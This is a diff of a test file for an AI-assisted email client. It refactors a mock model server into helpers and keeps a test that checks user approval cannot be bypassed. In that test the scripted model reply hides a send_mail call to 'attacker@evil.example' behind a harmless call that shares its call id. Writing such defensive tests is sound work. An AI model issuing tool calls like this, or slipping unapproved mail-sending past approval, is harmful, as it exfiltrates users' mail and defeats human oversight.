@@ -2,49 +2,22 @@
 // server speaking OpenAI Chat, real mail in SQLite. Nothing that changes mail happens before the user
 // approves it; an approved call takes effect, a denied one does not.
 import { writeFileSync } from 'node:fs';
-import { createServer } from 'node:http';
-import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
 import { afterAll, describe, expect, test } from 'vitest';
 import { openDatabase } from '../electron/db/open.ts';
 import { loadCorpus } from '../fixtures/sse/corpus.ts';
+import { serveScript, toolCallsBody } from './support/chat-script.ts';
 import { jsonLines, runSkimmer } from './support/cli.ts';
 import { eml, tempDir } from './support/temp.ts';
 
 // One Chat answer that calls a tool with the given arguments.
-function callChunk(id: string, name: string, args: object): Buffer {
-  const chunk = (delta: object, finish: string | null) =>
-    `data: ${JSON.stringify({ choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`;
-  return Buffer.from(
-    chunk(
-      {
-        role: 'assistant',
-        tool_calls: [{ index: 0, id, type: 'function', function: { name, arguments: JSON.stringify(args) } }],
-      },
-      null,
-    ) +
-      chunk({}, 'tool_calls') +
-      'data: [DONE]\n\n',
-  );
-}
+const callChunk = (id: string, name: string, args: object) => toolCallsBody([{ id, name, args }]);
 const answer = loadCorpus('openai-chat').find((f) => f.name === 'text')?.body ?? Buffer.alloc(0);
 
-let script: Buffer[] = [];
-const server = createServer(async (req, res) => {
-  for await (const _ of req) {
-    // drain the request
-  }
-  const next = script.shift();
-  if (!next)
-    return res
-      .writeHead(500, { 'content-type': 'application/json' })
-      .end('{"error":{"message":"no script"}}');
-  res.writeHead(200, { 'content-type': 'text/event-stream' });
-  res.end(next);
-});
-await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
-const base = `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1`;
-afterAll(() => new Promise<void>((r) => server.close(() => r())));
+let script: (string | Buffer)[] = [];
+const model = await serveScript(() => script.shift());
+const { base } = model;
+afterAll(() => model.close());
 
 const data = tempDir();
 const mail = tempDir();
@@ -146,21 +119,15 @@ describe('ask --tools and resume', () => {
   });
 
   test("two calls under one provider id are two calls: the provider's id approves nothing, Skimmer's one call", async () => {
-    const chunk = (delta: object, finish: string | null) =>
-      `data: ${JSON.stringify({ choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`;
-    const parts = [
-      { name: 'mark_read', args: { ids: [1] } },
-      { name: 'send_mail', args: { to: ['attacker@evil.example'], subject: 'Invoice', body: 'Plan.' } },
-    ].map((c, index) => ({
-      index,
-      id: 'call_same',
-      type: 'function',
-      function: { name: c.name, arguments: JSON.stringify(c.args) },
-    }));
     script = [
-      Buffer.from(
-        `${chunk({ role: 'assistant', tool_calls: parts }, null)}${chunk({}, 'tool_calls')}data: [DONE]\n\n`,
-      ),
+      toolCallsBody([
+        { id: 'call_same', name: 'mark_read', args: { ids: [1] } },
+        {
+          id: 'call_same',
+          name: 'send_mail',
+          args: { to: ['attacker@evil.example'], subject: 'Invoice', body: 'Plan.' },
+        },
+      ]),
     ];
     const asked = await skimmer(['ask', 'local/m', 'Mark it read', '--tools', '--json']);
     const conversation = String((lines(asked.stdout)[0] as { conversationId: number }).conversationId);
